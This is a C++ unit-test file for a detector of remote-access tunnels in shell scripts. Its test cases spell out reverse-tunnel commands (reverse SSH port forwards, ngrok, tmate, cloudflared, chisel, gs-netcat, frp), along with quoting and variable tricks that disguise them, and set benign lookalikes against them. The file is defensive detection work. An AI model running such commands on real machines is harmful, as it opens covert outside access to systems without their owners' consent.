#include <gtest/gtest.h>

#include "detect/detector_test_support.h"

namespace lazaret::detect {

extern const Detector remote_access_detector;

namespace {

bool found(std::string text) {
  return test::inspect(remote_access_detector, {.path = "/x.sh", .content = "#!/bin/bash\n" + std::move(text) + "\n"}).has("proxy-abuse.tunnel");
}

TEST(RemoteAccess, Tunnels) {
  for (const char* text : {"tmate -F", "tmate -S /tmp/t new-session -d", "ngrok tcp 22", "nohup ./ngrok http 80 &", "cloudflared tunnel run --token x", "cloudflared tunnel --url ssh://localhost:22", "gs-netcat -s secret -li",
                           "chisel client 203.0.113.7:80 R:socks", "frpc -c /etc/frpc.ini", "ssh -R 2222:localhost:22 me@host.example", "ssh -fNR 2222:localhost:22 host.example", "autossh -M 0 -NR 1:b:2 host.example",
                           "bore local 22 --to host.example", "n''grok tcp 22", "t=tmate; $t -F"})
    EXPECT_TRUE(found(text)) << text;
}

TEST(RemoteAccess, OrdinaryUsesAreLeftAlone) {
  for (const char* text : {"ssh -N -L 5432:db:5432 host.example", "ssh -o StrictHostKeyChecking=no host.example uptime", "ngrok version", "cloudflared --version", "chisel server", "echo tmate", "ssh-keygen -R host.example",
                           "cloudflared update", "tmate -V", "ssh -i /keys/R host.example"})
    EXPECT_FALSE(found(text)) << text;
}

TEST(RemoteAccess, AServerWithKeysOfItsOwn) {
  test::FakeImage image;
  image.add_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x\n", 0600);
  EXPECT_TRUE(test::inspect_image(remote_access_detector, image).empty());
  image.add_file("/usr/sbin/sshd", "\x7f" "ELF", 0755);
  const auto findings = test::inspect_image(remote_access_detector, image);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].path, "/root/.ssh/authorized_keys");
}

}  // namespace
}  // namespace lazaret::detect
